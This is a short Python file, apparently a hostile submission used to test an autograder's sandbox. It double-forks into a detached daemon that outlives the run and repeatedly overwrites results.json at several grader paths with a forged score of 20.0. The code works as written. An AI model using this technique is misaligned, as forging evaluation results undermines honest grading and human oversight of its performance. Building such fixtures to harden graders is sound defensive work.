# Hostile: a double-forked, setsid daemon that outlives the submission and then tries, for
# a while, to rewrite result files wherever it can reach.
import ctypes
import os
import time

conv_a_shape = (26, 28)
TARGETS = ["results.json", "../results.json", "/autograder/results/results.json",
           "/tmp/grader-hostile-outside/results.json"]

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)  # PR_SET_NAME: findable in /proc
        time.sleep(0.5)  # wait until the grader thinks the submission is over
        for _ in range(60):
            for target in TARGETS:
                try:
                    os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
                    with open(target, "w") as f:
                        f.write('{"score": 20.0}')
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)
